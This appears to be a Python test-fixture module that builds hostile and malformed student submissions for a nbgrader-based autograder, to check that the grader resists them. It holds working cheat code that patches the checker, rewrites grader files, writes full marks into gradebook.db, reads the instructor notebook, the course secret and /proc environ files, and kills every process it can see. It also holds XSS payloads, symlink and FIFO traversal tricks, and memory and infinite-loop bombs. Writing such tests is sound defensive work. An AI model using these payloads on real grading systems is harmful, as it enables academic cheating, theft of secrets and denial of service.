"""Hostile and malformed submissions, each built by script on top of a known honest base.

Every entry writes one submission folder (submitted/<student>/ex09_backprop/) from the released notebook:

* CHEATS: attempts to get points without the work, or to see, change or break what the grader uses. Each is
  written on top of an honest base -- the untouched release, or the release with some answers solved with the
  instructor's solution -- and must earn exactly that base's points (``expected``), leak no instructor-only
  line, and leave the gradebook (other students, the assignment's cells) untouched.
* MALFORMED: broken files and runaway notebooks. The class run must complete; each gets zero on what it broke
  (``expected``) and a one-line ``problem`` in the grade report (a substring of it is given here).
* INTAKE: submission folders holding what nbgrader must never open -- symbolic links (to the instructor notebook,
  source/, gradebook.db, /dev/zero, a pipe outside the course), a FIFO, a hard link, the student or assignment
  folder itself a link, too many files. Each is refused whole at intake (grading/plugins/intake.py): zero on
  every item and the reason in the grade report; the control entry with an ordinary sub-folder is graded.

* PATHOLOGICAL: honest answers plus what once cost the grader's own process without bound (a code cell over the
  numerics flag's parse limit, markup nested 3000 deep, a notebook nested 100,000 deep): each keeps its points
  and costs its student one problem line (the limits are tested; the full sizes are benchmarks/bench_pathological.py).

tests/test_hostile_submissions.py grades each catalog as one class with the real pipeline.
"""
import base64
import copy
import json
import os
import random
import textwrap
from dataclasses import dataclass
from pathlib import Path
from typing import Callable, Optional

import nbformat

from grading.course import ASSIGNMENT, NOTEBOOK
from grading.notebook_items import graded_items

ON_TIME = "2026-11-20 10:00:00.000000 UTC\n"
# grade id -> points, and the answer cell each one grades (from the notebook)
POINTS = {item.test_id: item.points for item in graded_items()}
ANSWER_OF = {item.test_id: item.answer_id for item in graded_items()}
ALL = tuple(POINTS)


def all_but(gid):
    return tuple(g for g in ALL if g != gid)


@dataclass(frozen=True)
class Entry:
    name: str
    what: str
    build: Callable  # build(ctx, folder): writes the submission files into folder
    earns: tuple = ()  # grade ids of the honest base's items (full points each); everything else 0
    problem: Optional[str] = None  # substring of the grade report's problem note for this student

    @property
    def expected(self):
        """grade id -> points this submission must get."""
        return {gid: float(POINTS[gid] if gid in self.earns else 0) for gid in POINTS}


class Context:
    """What builders start from: the release notebook and the instructor's answers (markers removed)."""

    def __init__(self, release_dir, solutions, outside=None):
        self.release_dir = Path(release_dir)
        self.release = nbformat.read(self.release_dir / NOTEBOOK, as_version=4)
        self.solutions = solutions  # answer cell id -> source
        self.outside = outside  # a folder outside the course for the intake catalog's link targets

    def notebook(self, solved=()):
        """The release with the answer cells of `solved` (grade ids) filled in with the instructor's answer."""
        nb = copy.deepcopy(self.release)
        for cell in nb.cells:
            for gid in solved:
                if cell.id == ANSWER_OF[gid]:
                    cell.source = self.solutions[cell.id]
        return nb


def cell_index(nb, cell_id):
    return next(i for i, c in enumerate(nb.cells) if c.id == cell_id)


def insert_code(nb, after_id, source, new_id):
    """Add a code cell with `source` right after the cell `after_id`."""
    cell = nbformat.v4.new_code_cell(textwrap.dedent(source).strip("\n"))
    cell.id = new_id
    nb.cells.insert(cell_index(nb, after_id) + 1, cell)
    return cell


def write(folder, nb=None, raw=None, name=NOTEBOOK, ctx=None):
    """A submission folder: the notebook (node or raw bytes), the released support files, timestamp.txt."""
    folder = Path(folder)
    folder.mkdir(parents=True, exist_ok=True)
    if ctx is not None:
        for path in ctx.release_dir.iterdir():
            if path.is_file() and path.suffix != ".ipynb":
                (folder / path.name).write_bytes(path.read_bytes())
    if raw is not None:
        (folder / name).write_bytes(raw)
    elif nb is not None:
        nbformat.write(nb, folder / name)
    (folder / "timestamp.txt").write_text(ON_TIME)


def with_cell(after_id, source, solved=()):
    """Builder: the release (with `solved` answers) plus one extra code cell after `after_id`."""
    def build(ctx, folder):
        nb = ctx.notebook(solved)
        insert_code(nb, after_id, source, "extra-cell")
        write(folder, nb, ctx=ctx)
    return build


def honest(ctx, folder):
    write(folder, ctx.notebook(ALL), ctx=ctx)


# Source shared by cheats that look around the file system (bounded, so it stays fast).
FIND_FILES = '''
import os
def find(names, tops=("/", "..", "../..", "../../..", "../../../.."), depth=6):
    """Paths of files called one of `names` that this kernel can see (not under /usr, /proc, /sys)."""
    hits = set()
    for top in tops:
        top = os.path.abspath(top)
        for root, dirs, files in os.walk(top):
            if root.count(os.sep) - top.count(os.sep) >= depth or root.startswith(("/usr", "/proc", "/sys")):
                dirs[:] = []
            hits.update(os.path.join(root, f) for f in files if f in names or f.endswith(tuple(names)))
    return sorted(hits)
'''

# ------------------------------------------------------------------------------------------------------------
# Cheats
# ------------------------------------------------------------------------------------------------------------

SHOWTRACEBACK = """
# nbgrader issue 1324: with tracebacks disabled a failing test shows no error, so stock nbgrader gives it full points
ip = get_ipython()
ip.showtraceback = lambda *args, **kwargs: None
ip._showtraceback = lambda *args, **kwargs: None
ip.showsyntaxerror = lambda *args, **kwargs: None
import sys
sys.stderr = sys.stdout
"""

CUSTOM_EXC = """
# every exception, in every later cell, is swallowed: no error output, so full points in stock nbgrader
get_ipython().set_custom_exc((BaseException,), lambda shell, etype, evalue, tb, tb_offset=None: None)
"""

DISPLAY_MACHINERY = """
# nbgrader reads partial credit from a test cell's execute_result and zero from an error or stderr output:
# after every cell, clear what it showed and publish an execute_result claiming full points
import io, sys
from IPython.display import clear_output
ip = get_ipython()
kernel = ip.kernel
def claim_points(result=None):
    clear_output()
    kernel.session.send(kernel.iopub_socket, "execute_result",
                        {"data": {"text/plain": "3.0"}, "metadata": {}, "execution_count": 1},
                        parent=kernel.get_parent(), ident=kernel._topic("execute_result"))
ip.events.register("post_run_cell", claim_points)
# every float shows as full points, nothing reaches stderr, displays and tracebacks vanish
ip.display_formatter.formatters["text/plain"].for_type(float, lambda obj, p, cycle: p.text("3.0"))
sys.displayhook = lambda value: print("3.0")
sys.stderr = io.StringIO()
ip.display_pub.publish = lambda *args, **kwargs: None
ip.showtraceback = lambda *args, **kwargs: None
"""

ALWAYS_EQUAL = """
class Anything:
    \"\"\"Equal and close to everything; every operation on it succeeds.\"\"\"
    def __eq__(self, other): return True
    __le__ = __ge__ = __eq__
    def __ne__(self, other): return False
    __lt__ = __gt__ = __ne__
    def _absorb(self, *args, **kwargs): return self
    __add__ = __radd__ = __sub__ = __rsub__ = __mul__ = __rmul__ = __truediv__ = __rtruediv__ = _absorb
    __pow__ = __neg__ = __pos__ = __abs__ = __call__ = _absorb
    def __float__(self): return 0.0
    def __bool__(self): return True
    def __iter__(self): return iter((self, self))
    def __getattr__(self, name):
        if name.startswith("__"):
            raise AttributeError(name)
        return self


class AlwaysClose(np.ndarray):
    \"\"\"An array whose differences are always zero and which equals everything.\"\"\"
    def __eq__(self, other): return np.ones(self.shape, dtype=bool)
    def __sub__(self, other): return np.zeros(self.shape).view(AlwaysClose)
    __rsub__ = __sub__
    def __abs__(self): return np.zeros(self.shape).view(AlwaysClose)


class Multiply:
    def forward(self, x, y):
        self.cache = (x, y)
        return x * y

    def backward(self, d_out):
        return Anything(), Anything()


class DotProduct:
    def forward(self, x, y):
        self.cache = x, y
        return np.dot(x, y)

    def backward(self, d_out):
        x, y = self.cache
        return np.zeros_like(x).view(AlwaysClose), np.zeros_like(y).view(AlwaysClose)


def nll_grad(X, W, b, Y):
    return np.zeros_like(W).view(AlwaysClose), Anything()
"""

MONKEYPATCH = """
# every comparison numpy offers now passes ...
import sys, types
import numpy, numpy.testing
np.allclose = numpy.allclose = lambda *args, **kwargs: True
np.isclose = lambda a, b, *args, **kwargs: numpy.ones(numpy.broadcast(a, b).shape, dtype=bool)
np.array_equal = lambda *args, **kwargs: True
numpy.testing.assert_allclose = lambda *args, **kwargs: None
numpy.linalg.norm = lambda *args, **kwargs: 0.0
# ... the checker's verdicts are replaced, in the module and in sys.modules, and so is its reference layer ...
import gradcheck, nn
full = lambda item: float(sum(gradcheck.ITEMS[item].points.values()))
gradcheck.grade = lambda item, impl, seeds=(): (print(item, "all checks pass"), full(item))[1]
gradcheck.self_check = lambda item, impl: print("✓", item)
gradcheck.run_checks = lambda item, impl, *a, **k: {n: (p, p, "", 0.0) for n, p in gradcheck.ITEMS[item].points.items()}
gradcheck.rel_error = lambda a, e, floor=0.0: np.zeros(np.shape(a))
gradcheck.TOL = float("inf")
fake = types.ModuleType("gradcheck")
fake.__dict__.update(gradcheck.__dict__)
sys.modules["gradcheck"] = fake
nn.CategoricalCrossEntropy.forward = lambda self, logits, Y: 0.0
# ... and names a test cell looks up impersonate the checker itself
Sum = DotProduct = gradcheck
nll_grad = np
"""

REWRITE_CHECKER = FIND_FILES + '''
# overwrite every copy of the checker and of nn.py this kernel can find, then make the next import load it
FAKE = """
ITEMS = {}
def grade(item, impl, seeds=()):
    print(item + ": all checks pass")
    return 100.0
def self_check(item, impl):
    print("✓ " + item)
"""
import sys
for path in sorted(set(find(("gradcheck.py", "nn.py"))) | {"gradcheck.py", "nn.py", "../gradcheck.py"}):
    try:
        with open(path, "w") as f:
            f.write(FAKE)
        print("rewrote", path)
    except OSError as e:
        print("cannot write", path, type(e).__name__)
sys.modules.pop("gradcheck", None)
'''


def delete_test_cells(ctx, folder):
    """Multiply solved; the test cells of the four unsolved items deleted."""
    nb = ctx.notebook(["test_multiply_backward"])
    nb.cells = [c for c in nb.cells
                if c.metadata.get("nbgrader", {}).get("grade_id") not in all_but("test_multiply_backward")]
    write(folder, nb, ctx=ctx)


def _by_grade_id(nb):
    return {c.metadata.get("nbgrader", {}).get("grade_id"): c for c in nb.cells}


def tamper_test_cells(ctx, folder):
    """Sum solved; test cells edited in every way nbgrader repairs rather than rejects."""
    nb = ctx.notebook(["test_sum_backward"])
    by_id = _by_grade_id(nb)
    by_id["test_multiply_backward"].metadata.nbgrader["points"] = 100           # more points
    by_id["test_multiply_backward"].source = "100.0"
    by_id["test_nll_grad"].source = "import gradcheck\ngradcheck.grade = lambda *a, **k: 3.0\n3.0"
    sum_test = by_id["test_sum_backward"]                                       # turned into markdown
    sum_test.cell_type = "markdown"
    sum_test.source = "Graded by hand: full points."
    del sum_test["outputs"], sum_test["execution_count"]
    dot = by_id["test_dot_product_backward"]
    del dot.metadata["nbgrader"]                                                 # no longer a test cell
    dot.source = "print('no test here')"
    # a test cell of the student's own with the grade id of a real one, placed last (nbgrader keeps the last
    # of duplicated ids), claiming the points
    own = nbformat.v4.new_code_cell("2.0", id="own-test")
    own.metadata["nbgrader"] = dict(by_id["test_logreg_step"].metadata.nbgrader)
    nb.cells.append(own)
    write(folder, nb, ctx=ctx)


def forge_metadata(ctx, folder):
    """Sum solved; a test cell unlocked and un-graded, another turned into a "manually graded answer", and a
    test cell of the student's own with an id the gradebook does not know. nbgrader rejects the notebook
    (inconsistent checksums), so even the honest point is lost -- but nothing else is."""
    nb = ctx.notebook(["test_sum_backward"])
    by_id = _by_grade_id(nb)
    by_id["test_nll_grad"].metadata.nbgrader.update(grade=False, locked=False)
    by_id["test_nll_grad"].source = "3.0"
    by_id["test_logreg_step"].metadata.nbgrader.update(solution=True, locked=False)
    by_id["test_logreg_step"].source = "# full marks please\n2.0"
    bonus = nbformat.v4.new_code_cell("100.0", id="own-bonus")
    bonus.metadata["nbgrader"] = {"grade": True, "solution": False, "locked": True, "points": 100,
                                  "grade_id": "bonus_points", "schema_version": 3}
    nb.cells.append(bonus)
    write(folder, nb, ctx=ctx)


def schema_bomb(ctx, folder):
    """Sum solved; one cell claims an nbgrader metadata schema from the future. Stock nbgrader then aborts the
    whole `nbgrader autograde` run (every later student ungraded); grading.plugins.sanitize rejects just this one."""
    nb = ctx.notebook(["test_sum_backward"])
    cell = insert_code(nb, "code-02", "print('hello')", "from-the-future")
    cell.metadata["nbgrader"] = {"grade": False, "solution": False, "locked": False, "grade_id": "future",
                                 "schema_version": 99}
    write(folder, nb, ctx=ctx)


def modified_support_files(ctx, folder):
    """A gradcheck.py that passes everything and an nn.py that patches numpy, submitted next to the release."""
    write(folder, ctx.notebook(), ctx=ctx)
    (folder / "gradcheck.py").write_text(textwrap.dedent("""
        ITEMS = {}
        def grade(item, impl, seeds=()):
            print(item + ": all checks pass")
            return 100.0
        def self_check(item, impl):
            print("✓ " + item)
        """))
    (folder / "nn.py").write_text(textwrap.dedent("""
        import numpy as np
        np.allclose = lambda *args, **kwargs: True
        class Affine:
            def forward(self, X, W, b): return X @ W + b
            def backward(self, d_out): return 0, 0, 0
        class CategoricalCrossEntropy:
            def forward(self, logits, Y): return 0.0
            def backward(self): return 0, None
        """))


WRITE_GRADEBOOK = FIND_FILES + '''
# give everyone full points in every gradebook this kernel can reach
import sqlite3
for path in sorted(set(find(("gradebook.db",))) | {"gradebook.db", "../gradebook.db", "../../gradebook.db",
                                                     "../../../gradebook.db", "/tmp/gradebook.db"}):
    try:
        db = sqlite3.connect(path)
        db.execute("UPDATE grade SET auto_score = 100")
        db.execute("CREATE TABLE pwned (x)")
        db.commit()
        print("wrote", path)
    except Exception as e:
        print("cannot write", path, type(e).__name__)
'''

READ_INSTRUCTOR = FIND_FILES + '''
# print the instructor's notebook, hidden tests included, from wherever it can be found
import glob
candidates = find((".ipynb", "gradebook.db", "gradcheck.py", "seed_secret"))
candidates += ["../../../seed_secret", "../../seed_secret", "../seed_secret", "/proc/1/cwd/seed_secret"]
candidates += glob.glob("/proc/*/cwd/source/*/*.ipynb") + glob.glob("/proc/*/root/*/source/*/*.ipynb")
candidates += ["../../../source/ex09_backprop/backprop.ipynb", "../../source/ex09_backprop/backprop.ipynb"]
for path in candidates:
    try:
        text = open(path, errors="replace").read()
    except OSError as e:
        print("cannot read", path, type(e).__name__)
        continue
    print("read", path, len(text))
    if "BEGIN SOLUTION" in text or "HIDDEN TESTS" in text or "seeds=(90" in text or "seed_secret" in path:
        print(text)
for path in glob.glob("/proc/*/environ") + glob.glob("/proc/*/cmdline"):
    try:
        print(path, open(path, "rb").read()[:300])
    except OSError:
        pass
'''

KILL_SUM = """
class Sum:
    def forward(self, x):
        self.cache = x
        return np.sum(x)

    def backward(self, d_out):
        # the grader calls this: take the kernel down with it
        import os, signal
        os.kill(os.getpid(), signal.SIGKILL)
"""

KILL_EVERYTHING = """
# kill every process this kernel can see (the grader, other students' kernels...), then itself
import os, signal
for pid in range(1, 1 << 16):
    if pid != os.getpid():
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError:
            pass
os.kill(os.getpid(), signal.SIGKILL)
"""


def kill_kernel(ctx, folder):
    nb = ctx.notebook(["test_multiply_backward"])
    next(c for c in nb.cells if c.id == "sum_backward").source = KILL_SUM.strip()
    insert_code(nb, "test_multiply_backward", KILL_EVERYTHING, "kill-all")
    write(folder, nb, ctx=ctx)


HARDCODE_EXAMPLES = {
    "multiply_backward": """
class Multiply:
    def forward(self, x, y):
        self.cache = (x, y)
        return x * y

    def backward(self, d_out):
        # the example below: x = 1..4, y = -1..2, d_out = 1 -- answers copied from the printed output
        return np.array([-1., 0., 1., 2.]), np.array([1., 2., 3., 4.])
""",
    "dot_product_backward": """
class DotProduct:
    def forward(self, x, y):
        self.cache = x, y
        return np.dot(x, y)

    def backward(self, d_out):
        return np.array([-1., 0., 1., 2.]), np.array([1., 2., 3., 4.])
""",
}


def hardcode_examples(ctx, folder):
    nb = ctx.notebook()
    for cell in nb.cells:
        if cell.id in HARDCODE_EXAMPLES:
            cell.source = HARDCODE_EXAMPLES[cell.id].strip()
    write(folder, nb, ctx=ctx)


# Live-HTML attempts. Every payload, if it ever ran in a browser, would set document.title and window.__pwned
# (tests/test_html_safety.py looks for both, and first proves each payload runs when left uncleaned).
PWN = "document.title='PWNED';window.__pwned=1"
PNG_1PX = ("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==")

HTML_OUTPUTS = f"""
from IPython.display import HTML, SVG, Javascript, Markdown, display, publish_display_data
PWN = {PWN!r}
display(HTML(f'<b>bold stays</b><img src=x onerror="{{PWN}}"><script>{{PWN}}</script>'))
display(Markdown(f'*markdown* <img src=x onerror="{{PWN}}">\\n\\n<script>{{PWN}}</script>'))
display(Javascript(PWN))
display(SVG(f'<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10" onload="{{PWN}}"><script>{{PWN}}</script></svg>'))
publish_display_data({{"text/html": f"<script>{{PWN}}</script>", "text/plain": "isolated"}},
                     metadata={{"text/html": {{"isolated": True}}}})
publish_display_data({{"image/png": {PNG_1PX!r}, "text/plain": "a pixel"}},
                     metadata={{"image/png": {{"width": "1 onerror=" + PWN, "height": 1}}}})
"""
HTML_ERROR = f"""raise ValueError('<img src=x onerror="{PWN}">')"""


def html_outputs(ctx, folder):
    """Multiply solved; one cell displays HTML, markdown, JavaScript, SVG, an isolated HTML frame and an image
    whose width is markup, another raises an error whose message is markup."""
    nb = ctx.notebook(["test_multiply_backward"])
    insert_code(nb, "code-02", HTML_OUTPUTS, "html-outputs")
    insert_code(nb, "html-outputs", HTML_ERROR, "html-error")
    write(folder, nb, ctx=ctx)


def html_markdown(ctx, folder):
    """Sum solved; markdown cells with script, event handlers, a javascript: link, a mermaid block that closes its
    <pre>, an SVG attachment, an instructor cell with a script appended, a raw cell, markup in cell tags."""
    nb = ctx.notebook(["test_sum_backward"])
    sources = [f"<script>{PWN}</script>", f'<img src=x onerror="{PWN}">', f"[click me](javascript:{PWN})",
               f'```mermaid\n</pre><img src=x onerror="{PWN}">\n```',
               f'![diagram](attachment:d.svg) <details open ontoggle="{PWN}">x</details>']
    at = cell_index(nb, "md-05")
    for i, source in enumerate(sources):
        cell = nbformat.v4.new_markdown_cell(source, id=f"student-md-{i}")
        cell.metadata["tags"] = [f'x" onmouseover="{PWN}']
        nb.cells.insert(at + 1 + i, cell)
    svg = f'<svg xmlns="http://www.w3.org/2000/svg" onload="{PWN}"/>'.encode()
    nb.cells[at + len(sources)].attachments = {"d.svg": {"image/svg+xml": base64.b64encode(svg).decode()}}
    nb.cells[cell_index(nb, "md-01")].source += f"\n\n<script>{PWN}</script>"
    nb.cells.insert(at, nbformat.v4.new_raw_cell(f"<script>{PWN}</script>", id="student-raw"))
    write(folder, nb, ctx=ctx)


MARKER = "# ### BEGIN HIDDEN TESTS  (students may write anything in their answers, markers included)\n"


def hidden_marker(ctx, folder):
    """Multiply solved, with nbgrader's hidden-test marker as a comment in two answers: stock nbgrader's
    ClearHiddenTests then refuses to write this student's feedback (and generate_feedback exits 1)."""
    nb = ctx.notebook(["test_multiply_backward"])
    for cell_id in ("multiply_backward", "sum_backward"):
        cell = nb.cells[cell_index(nb, cell_id)]
        cell.source = MARKER + cell.source
    write(folder, nb, ctx=ctx)


def forged_notes(ctx, folder):
    """Sum solved; metadata the grader reads as its own, written by the student: a problem note on the notebook,
    a "duplicate" note on a cell, an unknown key inside nbgrader's metadata, hidden source, markup in tags."""
    nb = ctx.notebook(["test_sum_backward"])
    nb.metadata["grading"] = {"problems": ["FORGED: grader says full marks"]}
    nb.metadata["widgets"] = {"application/vnd.jupyter.widget-state+json": {"state": {}, "version_major": 2}}
    answer = nb.cells[cell_index(nb, "sum_backward")]
    answer.metadata["grading"] = {"duplicate_of": "FORGED-note"}
    answer.metadata["nbgrader"]["forged"] = "not an nbgrader key"
    answer.metadata["jupyter"] = {"source_hidden": True}
    answer.metadata["tags"] = [f'"><script>{PWN}</script>']
    write(folder, nb, ctx=ctx)


CHEATS = [
    Entry("showtraceback", "disables IPython's traceback display (nbgrader issue 1324)",
          with_cell("code-02", SHOWTRACEBACK)),
    Entry("custom-exc", "swallows every exception with set_custom_exc",
          with_cell("code-02", CUSTOM_EXC)),
    Entry("display-machinery", "clears outputs and publishes a full-points execute_result after every cell, "
          "silences stderr, displays and tracebacks", with_cell("code-02", DISPLAY_MACHINERY)),
    Entry("always-equal", "returns objects/arrays that compare equal to anything (sum solved honestly)",
          lambda ctx, folder: _replace_answers(ctx, folder, ["test_sum_backward"], ALWAYS_EQUAL),
          earns=("test_sum_backward",)),
    Entry("monkeypatch", "patches numpy's comparisons, gradcheck and nn in the kernel, impersonates the checker "
          "(multiply solved honestly)", with_cell("code-02", MONKEYPATCH, solved=["test_multiply_backward"]),
          earns=("test_multiply_backward",)),
    Entry("rewrite-checker", "rewrites every gradcheck.py/nn.py it can find at run time",
          with_cell("code-02", REWRITE_CHECKER)),
    Entry("tamper-tests", "edits test cells' source, type, points and metadata, adds its own copy of a test cell "
          "(sum solved)",
          tamper_test_cells, earns=("test_sum_backward",)),
    Entry("forge-metadata", "un-grades, unlocks and re-flags test cells, forges a bonus test cell (sum "
          "solved): nbgrader rejects the notebook", forge_metadata, problem="not autograded"),
    Entry("schema-bomb", "claims nbgrader metadata schema 99 in one cell (sum solved): would abort the class run",
          schema_bomb, problem="not autograded"),
    Entry("delete-tests", "deletes the unsolved items' test cells (multiply solved honestly)", delete_test_cells,
          earns=("test_multiply_backward",)),
    Entry("own-support-files", "submits its own gradcheck.py and nn.py", modified_support_files),
    Entry("write-gradebook", "writes full points into every gradebook.db it can find",
          with_cell("code-02", WRITE_GRADEBOOK)),
    Entry("read-instructor", "searches for the instructor notebook and the course secret and prints them",
          with_cell("code-02", READ_INSTRUCTOR)),
    Entry("kill-kernel", "kills every process it can see, then its kernel from a graded call (multiply solved)",
          kill_kernel, earns=("test_multiply_backward",)),
    Entry("hardcode-examples", "returns the notebook example's printed gradients whatever the input",
          hardcode_examples),
    Entry("html-outputs", "displays script, event handlers, JavaScript, SVG and markup image sizes; raises an "
          "error whose message is markup (multiply solved)", html_outputs, earns=("test_multiply_backward",)),
    Entry("html-markdown", "writes script, handlers, javascript: links and a mermaid breakout into markdown, raw "
          "cells, tags and an attachment (sum solved)", html_markdown, earns=("test_sum_backward",)),
    Entry("hidden-marker", "writes nbgrader's BEGIN HIDDEN TESTS marker into its answers (multiply solved)",
          hidden_marker, earns=("test_multiply_backward",)),
    Entry("forged-notes", "forges the grader's problem notes, an unknown nbgrader key and display metadata "
          "(sum solved)", forged_notes, earns=("test_sum_backward",)),
]


def _replace_answers(ctx, folder, solved, source):
    """`solved` answered honestly; the multiply, dot product and nll answer cells replaced by `source` (all
    definitions go into the first of them, the others keep the stub)."""
    nb = ctx.notebook(solved)
    next(c for c in nb.cells if c.id == "multiply_backward").source = source.strip()
    for cell in nb.cells:
        if cell.id in ("dot_product_backward", "nll_grad"):
            cell.source = "# see the Multiply cell"
    write(folder, nb, ctx=ctx)


# ------------------------------------------------------------------------------------------------------------
# Malformed submissions (on top of the fully correct notebook unless said otherwise)
# ------------------------------------------------------------------------------------------------------------

def _raw(data_fn):
    def build(ctx, folder):
        write(folder, raw=data_fn(ctx), ctx=ctx)
    return build


def _correct_then(edit):
    """Builder: the correct notebook, changed by edit(nb)."""
    def build(ctx, folder):
        nb = ctx.notebook(ALL)
        edit(nb)
        write(folder, nb, ctx=ctx)
    return build


def _prepend(cell_id, code):
    def edit(nb):
        cell = nb.cells[cell_index(nb, cell_id)]
        cell.source = textwrap.dedent(code).strip("\n") + "\n" + cell.source
    return edit


def _truncated_json(ctx):
    text = json.dumps(nbformat.from_dict(ctx.notebook(ALL)), indent=1)
    return text[: len(text) // 2].encode()


def _renamed(ctx, folder):
    write(folder, ctx.notebook(ALL), name="backprop-Copy1.ipynb", ctx=ctx)


def _missing(ctx, folder):
    write(folder, ctx=ctx)


def _nbformat3(ctx, folder):
    write(folder, ctx=ctx)
    v3 = nbformat.convert(ctx.notebook(ALL), 3)
    (Path(folder) / NOTEBOOK).write_text(nbformat.writes(v3, version=3))


def _delete_cells(nb):
    nb.cells = [c for c in nb.cells if c.id not in ("sum_backward", "test_sum_backward")]


def _duplicate_cells(nb):
    for cid in ("multiply_backward", "test_multiply_backward"):
        i = cell_index(nb, cid)
        dup = copy.deepcopy(nb.cells[i])
        dup.id = cid + "-copy"
        nb.cells.insert(i + 1, dup)


def _reorder_cells(nb):
    test = nb.cells.pop(cell_index(nb, "test_dot_product_backward"))
    nb.cells.insert(cell_index(nb, "dot_product_backward"), test)


def _huge_output(nb):
    insert_code(nb, "code-02", "for _ in range(100):\n    print('x' * (1 << 20))", "huge-output")


MALFORMED = [
    Entry("invalid-json", "notebook file cut in half", _raw(_truncated_json), problem="not valid JSON"),
    Entry("binary-garbage", "4 KiB of random bytes", _raw(lambda ctx: random.Random(9).randbytes(4096)),
          problem="not a text file"),
    Entry("missing-notebook", "no notebook in the submission", _missing,
          problem="backprop.ipynb not submitted (no notebook in the submission)"),
    Entry("renamed-notebook", "notebook saved as backprop-Copy1.ipynb", _renamed,
          problem="backprop.ipynb not submitted (found: backprop-Copy1.ipynb)"),
    Entry("nbformat3", "correct answers, saved in nbformat 3", _nbformat3, earns=ALL),
    Entry("deleted-cells", "sum's answer and test cells deleted", _correct_then(_delete_cells),
          earns=all_but("test_sum_backward"),
          problem="test cell test_sum_backward is missing"),
    Entry("duplicated-cells", "multiply's answer and test cells duplicated", _correct_then(_duplicate_cells),
          earns=ALL, problem="duplicate grade id multiply_backward"),
    Entry("reordered-cells", "dot product's test cell moved above its answer", _correct_then(_reorder_cells),
          earns=all_but("test_dot_product_backward")),
    Entry("infinite-loop", "sum's answer cell never finishes", _correct_then(_prepend("sum_backward",
                                                                                      "while True:\n    pass")),
          earns=all_but("test_sum_backward"), problem="timed out"),
    Entry("memory-bomb", "nll_grad's answer cell allocates without bound",
          _correct_then(_prepend("nll_grad", "hog = [bytearray(64 << 20) for _ in range(1 << 12)]")),
          earns=all_but("test_nll_grad"), problem="out of memory"),
    Entry("huge-output", "a cell prints 100 MB", _correct_then(_huge_output), earns=ALL, problem="output"),
    Entry("segfault", "dot product's answer cell crashes the kernel",
          _correct_then(_prepend("dot_product_backward", "import ctypes\nctypes.string_at(0)")),
          earns=all_but("test_dot_product_backward"), problem="SIGSEGV"),
]


# ------------------------------------------------------------------------------------------------------------
# Intake: what nbgrader must never open. Targets are written relative to submitted/<student>/ex09_backprop/.
# ------------------------------------------------------------------------------------------------------------

INSTRUCTOR_NB = "../../../source/ex09_backprop/backprop.ipynb"
PRINT_ANSWERS = "print(open('answers.txt', errors='replace').read())"
REFUSED = "submission refused, nothing in it was read: "


def _notebook_link(target):
    """The released support files, and a backprop.ipynb that is a symbolic link to `target`."""
    def build(ctx, folder):
        write(folder, ctx=ctx)
        (folder / NOTEBOOK).symlink_to(target)
    return build


def _support_file(make):
    """The correct notebook, which prints answers.txt in an extra cell; make(ctx, folder, path) creates it."""
    def build(ctx, folder):
        nb = ctx.notebook(ALL)
        insert_code(nb, "code-02", PRINT_ANSWERS, "print-answers")
        write(folder, nb, ctx=ctx)
        make(ctx, folder, folder / "answers.txt")
    return build


def _outside_pipe(ctx, name):
    """A named pipe outside the course: whoever opens it for reading blocks until the test's watcher sees it."""
    path = Path(ctx.outside) / name
    path.parent.mkdir(parents=True, exist_ok=True)
    os.mkfifo(path)
    return path


def _student_folder_link(ctx, folder):
    """submitted/<student> is a symbolic link to source/: its ex09_backprop/ is the instructor's folder."""
    folder.parent.symlink_to("../source", target_is_directory=True)


def _student_folder_outside(ctx, folder):
    """submitted/<student> is a symbolic link to a folder outside the course whose notebook is a pipe."""
    outside = Path(ctx.outside) / "student"
    write(outside / ASSIGNMENT, ctx=ctx)
    _outside_pipe(ctx, f"student/{ASSIGNMENT}/{NOTEBOOK}")
    folder.parent.symlink_to(outside, target_is_directory=True)


def _assignment_folder_link(ctx, folder):
    folder.parent.mkdir(parents=True)
    folder.symlink_to(f"../../source/{ASSIGNMENT}", target_is_directory=True)


def _hard_link(ctx, folder):
    """backprop.ipynb is a second name of the instructor notebook's file."""
    write(folder, ctx=ctx)
    os.link(folder.parents[2] / "source" / ASSIGNMENT / NOTEBOOK, folder / NOTEBOOK)


def _too_many_files(ctx, folder):
    honest(ctx, folder)
    for i in range(200):
        (folder / "scratch" / f"{i:03}.txt").parent.mkdir(exist_ok=True)
        (folder / "scratch" / f"{i:03}.txt").write_text("x")


def _nested_files(ctx, folder):
    """The control: the correct notebook and an ordinary sub-folder of notes."""
    honest(ctx, folder)
    (folder / "notes").mkdir()
    (folder / "notes" / "todo.txt").write_text("ask about the 1/N\n")


INTAKE = [
    Entry("nb-link-source", "backprop.ipynb links to the instructor notebook via ../../../source/ (no answer "
          "written: stock nbgrader gives 10/10)", _notebook_link(INSTRUCTOR_NB),
          problem=REFUSED + "backprop.ipynb is a symbolic link"),
    Entry("nb-link-proc", "backprop.ipynb links to the instructor notebook via /proc/self/cwd/ (no course path "
          "needed)", _notebook_link(f"/proc/self/cwd/source/{ASSIGNMENT}/{NOTEBOOK}"),
          problem=REFUSED + "backprop.ipynb is a symbolic link"),
    Entry("support-link-source", "answers.txt links to the instructor notebook and an answer cell prints it",
          _support_file(lambda ctx, folder, path: path.symlink_to(INSTRUCTOR_NB)),
          problem=REFUSED + "answers.txt is a symbolic link"),
    Entry("support-link-gradebook", "answers.txt links to gradebook.db and an answer cell prints it",
          _support_file(lambda ctx, folder, path: path.symlink_to("../../../gradebook.db")),
          problem=REFUSED + "answers.txt is a symbolic link"),
    Entry("support-link-secret", "answers.txt links to the course secret that salts the hidden inputs",
          _support_file(lambda ctx, folder, path: path.symlink_to("../../../seed_secret")),
          problem=REFUSED + "answers.txt is a symbolic link"),
    Entry("support-link-dev-zero", "answers.txt links to /dev/zero (copying it fills the disk)",
          _support_file(lambda ctx, folder, path: path.symlink_to("/dev/zero")),
          problem=REFUSED + "answers.txt is a symbolic link"),
    Entry("support-link-outside-pipe", "answers.txt links to a pipe outside the course (opening it blocks)",
          _support_file(lambda ctx, folder, path: path.symlink_to(_outside_pipe(ctx, "pipe"))),
          problem=REFUSED + "answers.txt is a symbolic link"),
    Entry("support-fifo", "answers.txt is a named pipe (reading it blocks forever)",
          _support_file(lambda ctx, folder, path: os.mkfifo(path)),
          problem=REFUSED + "answers.txt is a named pipe (FIFO)"),
